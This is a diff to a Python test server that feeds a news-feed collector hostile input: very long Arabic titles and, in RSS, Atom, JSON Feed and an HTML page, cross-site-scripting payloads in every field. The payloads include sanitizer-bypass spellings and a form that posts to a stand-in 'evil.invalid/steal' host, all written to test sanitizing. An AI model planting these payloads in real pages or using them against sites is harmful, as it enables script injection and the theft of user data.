@@ -4,18 +4,24 @@ The collector fetches URLs that operators paste in, from sites that are broken, 
 malicious. Each endpoint here is one such answer: XML entity bombs and external entities,
 compression bombs, endless and trickled bodies, headers that never come, redirect loops, HTML
 or junk served as a feed, malformed and truncated XML, impossible dates, control characters,
-invalid or mixed encodings, script injection, and any HTTP status. The collector's tests point
-it here and assert that it fails cleanly (an error recorded, nothing stored, no hang, no file
-or network access through XML). `/valid.xml` is the control that must still work.
+invalid or mixed encodings, 100,000-character titles (in a feed item, and in the `<title>` and
+`<h1>` of an article page), script injection, and any HTTP status. `/markup.xml`, `/markup.atom`
+and `/markup.json` carry script and markup in every field of every format (and `/markup/page`
+in an article page), for the end-to-end security test (`tests/test_security.py`). The
+collector's tests point it here and assert that it fails cleanly (an error recorded, nothing
+stored, no hang, no file or network access through XML). `/valid.xml` is the control that
+must still work.
 
-Stdlib only. `stop()` is quick even while a response is being trickled: every wait checks the
-stop event, and open connections are shut down so blocked writes fail at once.
+Stdlib only (the markup feeds borrow the sample site's article texts). `stop()` is quick even
+while a response is being trickled: every wait checks the stop event, and open connections
+are shut down so blocked writes fail at once.
 """
 
 from __future__ import annotations
 
 import contextlib
 import functools
+import json
 import random
 import re
 import socket
@@ -27,6 +33,7 @@ from email.utils import format_datetime
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
+from syndicator.demo.content import load_articles
 from syndicator.demo.loopback import Loopback
 
 HUGE_SIZE = 100 * 2**20  # bytes of /huge and /huge-chunked, and (at least) of each bomb expanded
@@ -36,6 +43,8 @@ SLOW_HEADERS_DELAY = 30.0
 RETRY_AFTER = 7  # seconds, on /status/429 and /status/503
 SECRET = "TOP-SECRET-7f3a9c"  # the body of /secret: must never appear in a parsed feed
 RSS = "application/rss+xml; charset=UTF-8"
+HTML = "text/html; charset=UTF-8"
+LONG_TITLE = 100_000  # characters of the titles of /long-title.xml and of its article page
 _BOMB_HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>bomb'
 _BOMB_TAIL = b"</title></channel></rss>\n"
 
@@ -348,14 +357,44 @@ def _impossible_dates(owner: HostileServer) -> tuple[bytes, str]:
 
 
 def _control_chars(owner: HostileServer) -> tuple[bytes, str]:
-    long_title = ("عنوان طويل جداً " * 7000)[:100_000]
+    huge_title = ("عنوان طويل جداً " * 7000)[:100_000]
     items = (
         item("عاجل\x00: انفجار\x0b في\x1b[31m الميناء", owner.url("/cc/1"), "نص\x00 فيه\x1b[0m")
         + item("خبر\x85 فيه\x9b محارف C1", owner.url("/cc/2"), "وصف\x80\x9f")
-        + item(long_title, owner.url("/cc/3"), "عنوان من مئة ألف حرف")
+        + item(huge_title, owner.url("/cc/3"), "عنوان من مئة ألف حرف")
         + item("\u202egnp.exe خبر معكوس", owner.url("/cc/4"), "نص \u202eمعكوس\u202c هنا")
     )
     return rss(items).encode(), RSS
+
+
+def long_title(words: str) -> str:
+    """`LONG_TITLE` characters of `words`, repeated with spaces between."""
+    return ((words + " ") * (LONG_TITLE // len(words) + 1))[:LONG_TITLE]
+
+
+def _long_title(owner: HostileServer) -> tuple[bytes, str]:
+    """A 100,000-character title in the feed, and an untitled item whose page has one."""
+    items = item(long_title("عنوان طويل في الخلاصة"), owner.url("/long-title/1"), "وصف قصير.")
+    items += (  # no <title>: the pipeline takes the page's, which is as long
+        f"<item><link>{owner.url('/long-title/page')}</link>"
+        "<description>مقدمة قصيرة.</description></item>\n"
+    )
+    return rss(items).encode(), RSS
+
+
+def _long_title_page(owner: HostileServer) -> tuple[bytes, str]:
+    title = long_title("عنوان طويل في الصفحة")
+    paragraphs = "".join(
+        f"<p>هذه الفقرة رقم {n} من نص الخبر، وفيها ما يكفي من الكلمات العربية لكي يجدها"
+        " المستخرج ويعدّها متن المقال لا حاشية من حواشي القالب.</p>"
+        for n in range(1, 9)
+    )
+    page = (
+        '<!DOCTYPE html>\n<html lang="ar" dir="rtl"><head><meta charset="UTF-8">'
+        f"<title>{title}</title></head><body><article><h1>{title}</h1>{paragraphs}"
+        "</article></body></html>\n"
+    )
+    return page.encode(), HTML
 
 
 def _invalid_utf8(owner: HostileServer) -> tuple[bytes, str]:
@@ -389,8 +428,169 @@ def _script(owner: HostileServer) -> tuple[bytes, str]:
         item("عنوان &lt;script&gt;alert(1)&lt;/script&gt;", owner.url("/x/1"), escaped)
         + "<item><title>رابط جافاسكربت</title><link>javascript:alert(3)</link>"
         f"<description><![CDATA[{payload}]]></description></item>\n"
+        # Escaped twice: the title's text, once decoded, is itself markup.
+        + item(
+            "عنوان &amp;lt;script&amp;gt;alert(4)&amp;lt;/script&amp;gt; مرمز"
+            " &amp;lt;img src=x onerror=alert(5)&amp;gt;مرتين",
+            owner.url("/x/2"),
+            escaped,
+        )
     )
     return rss(items).encode(), RSS
+
+
+# -- script and markup in every field (tests/test_security.py) ------------------------------
+
+# Everything a page can run, hide or be redirected with, and the spellings sanitizers miss.
+MARKUP = (
+    '<script>alert("script")</script>'
+    '<img src="x" onerror="alert(\'img\')">'
+    "<a href=\"javascript:alert('a')\">رابط جافاسكربت</a>"
+    "<a href=\" JaVaScRiPt:alert('case')\">رابط بحروف مختلطة</a>"
+    "<a href=\"jav&#x09;ascript:alert('tab')\">رابط فيه مسافة</a>"
+    '<iframe src="http://evil.invalid/frame"></iframe>'
+    '<svg onload="alert(\'svg\')"><circle r="1"/></svg>'
+    "<style>body{display:none}</style>"
+    "<p style=\"background:url(javascript:alert('css'))\" onclick=\"alert('p')\">فقرة بنقرة</p>"
+    '&lt;script&gt;alert("entity")&lt;/script&gt;'
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">رابط بيانات</a>'
+    "<a href=\"vbscript:msgbox('vb')\">رابط في بي</a>"
+    "<img src=\"javascript:alert('src')\">"
+    '<object data="http://evil.invalid/x.swf"></object><embed src="http://evil.invalid/x.swf">'
+    '<form action="http://evil.invalid/steal"><input name="p"><button>أرسل</button></form>'
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'meta\')">'
+    "<base href=\"javascript:alert('base')//\">"
+    '<math><mtext><script>alert("math")</script></mtext></math>'
+)
+# Words that must stay readable in every output, one per titled item of the markup feeds.
+MARKUP_WORDS = (
+    "خبر أول", "خبر ثان", "خبر ثالث", "خبر الصورة", "خبر أتوم", "خبر أتوم الثاني",
+    "خبر جيسون", "خبر جيسون الثاني",
+)  # fmt: skip
+MARKUP_ARTICLES = 10  # how many articles the three markup feeds make (their other items: none)
+_BAD_LINKS = (
+    "javascript:alert('link')",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox('link')",
+)
+
+
+def _escaped(text: str) -> str:
+    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+
+
+def _prose(n: int) -> str:
+    """The paragraphs of the sample site's article `n` (each item tells another story: the
+    markup they share must not make them one story, posted once)."""
+    return "".join(f"<p>{_escaped(p)}</p>" for p in load_articles()[n].paragraphs)
+
+
+def _markup_rss(owner: HostileServer) -> tuple[bytes, str]:
+    def entry(title: str, n: int, extra: str = "", link: str = "") -> str:
+        content = MARKUP + _prose(n)
+        return (
+            f"<item><title>{title}</title><link>{link or owner.url(f'/markup/{n}')}</link>"
+            f"<description>{_escaped(content)}</description>"
+            f"<content:encoded><![CDATA[{content}]]></content:encoded>{extra}</item>\n"
+        )
+
+    items = (
+        entry("عاجل &lt;script&gt;alert('t1')&lt;/script&gt; خبر أول", 0)
+        + entry("&amp;lt;img src=x onerror=alert('t2')&amp;gt;خبر ثان &amp;lt;b&amp;gt;", 1)
+        + entry("<![CDATA[<svg onload=alert('t3')>خبر ثالث</svg> <a href='javascript:x'>]]>", 2)
+        + entry(
+            "خبر الصورة",
+            4,
+            '<enclosure url="javascript:alert(\'enclosure\')" type="image/jpeg"'
+            ' length="1"/><media:content url="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>',
+        )
+        + "".join(
+            entry("خبر برابط خبيث", k, link=_escaped(bad)) for k, bad in enumerate(_BAD_LINKS)
+        )
+        + f"<item><link>{owner.url('/markup/page')}</link>"
+        "<description>مقدمة.</description></item>\n"
+        + entry(_escaped(long_title("عنوان طويل <b>جدا</b>")), 3)
+    )
+    body = (
+        '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"'
+        ' xmlns:content="http://purl.org/rss/1.0/modules/content/"'
+        ' xmlns:media="http://search.yahoo.com/mrss/">\n<channel>\n'
+        "<title>موقع &lt;script&gt;alert('channel')&lt;/script&gt;</title>\n"
+        f"<link>{owner.url('/')}</link><description>خلاصة</description>\n{items}</channel>\n</rss>\n"
+    )
+    return body.encode(), RSS
+
+
+def _markup_atom(owner: HostileServer) -> tuple[bytes, str]:
+    def entry(n: int, title: str, content: str, link: str = "") -> str:
+        href = link or owner.url(f"/markup/{n}")
+        return (
+            f'<entry><id>urn:markup:{n}</id><title type="html">{title}</title>'
+            f'<link rel="alternate" href="{href}"/><updated>2026-11-18T09:00:00Z</updated>'
+            f'<summary type="html">{_escaped(MARKUP)}</summary>{content}</entry>\n'
+        )
+
+    entries = (
+        entry(
+            20,
+            _escaped("<b>خبر أتوم</b> <script>alert('atom')</script>"),
+            f'<content type="html">{_escaped(MARKUP + _prose(5))}</content>',
+        )
+        + entry(
+            21,
+            "خبر أتوم الثاني &amp;lt;iframe src=x&amp;gt;",
+            '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
+            "<script>alert('xhtml')</script><p onclick=\"alert('xhtml')\">نص</p>"
+            f"<a href=\"javascript:alert('xhtml')\">رابط</a>{_prose(6)}</div></content>",
+        )
+        + entry(22, "خبر برابط خبيث", "", link=_escaped(_BAD_LINKS[0]))
+    )
+    body = (
+        '<?xml version="1.0" encoding="UTF-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
+        f"<title>أتوم</title><id>{owner.url('/markup.atom')}</id>"
+        f'<updated>2026-11-18T09:00:00Z</updated><link href="{owner.url("/")}"/>\n'
+        f"{entries}</feed>\n"
+    )
+    return body.encode(), "application/atom+xml; charset=UTF-8"
+
+
+def _markup_json(owner: HostileServer) -> tuple[bytes, str]:
+    def item(n: int, title: str, **more: str) -> dict[str, str]:
+        return {
+            "id": f"markup-{n}",
+            "url": owner.url(f"/markup/{n}"),
+            "title": title,
+            "summary": MARKUP,
+            "content_html": MARKUP + _prose(n % 10),
+            "date_published": "2026-11-18T09:00:00Z",
+            **more,
+        }
+
+    items = [
+        item(7, "خبر جيسون <script>alert('json')</script>", image="javascript:alert('image')"),
+        item(8, "خبر جيسون الثاني &lt;img src=x onerror=alert(1)&gt;", banner_image=_BAD_LINKS[1]),
+        item(10, "خبر برابط خبيث", url=_BAD_LINKS[0]),
+        item(11, "خبر برابط خارجي خبيث", url="", external_url=_BAD_LINKS[2]),
+    ]
+    document = {
+        "version": "https://jsonfeed.org/version/1.1",
+        "title": "جيسون <script>alert('feed')</script>",
+        "home_page_url": owner.url("/"),
+        "items": items,
+    }
+    return json.dumps(document, ensure_ascii=False).encode(), "application/feed+json"
+
+
+def _markup_page(owner: HostileServer) -> tuple[bytes, str]:
+    page = (
+        '<!DOCTYPE html>\n<html lang="ar" dir="rtl"><head><meta charset="UTF-8">'
+        "<title>خبر الصفحة &lt;script&gt;alert('title')&lt;/script&gt;</title>"
+        '<meta property="og:image" content="javascript:alert(\'og\')">'
+        "<script>alert('head')</script></head><body><article>"
+        f"<h1>خبر الصفحة <script>alert('h1')</script></h1>{MARKUP}{_prose(9)}"
+        "</article></body></html>\n"
+    )
+    return page.encode(), HTML
 
 
 def _not_xml(owner: HostileServer) -> tuple[bytes, str]:
@@ -416,4 +616,10 @@ _SIMPLE: dict[str, Callable[[HostileServer], tuple[bytes, str]]] = {
     "/invalid-utf8.xml": _invalid_utf8,
     "/mixed-encoding.xml": _mixed_encoding,
     "/script.xml": _script,
+    "/long-title.xml": _long_title,
+    "/long-title/page": _long_title_page,
+    "/markup.xml": _markup_rss,
+    "/markup.atom": _markup_atom,
+    "/markup.json": _markup_json,
+    "/markup/page": _markup_page,
 }
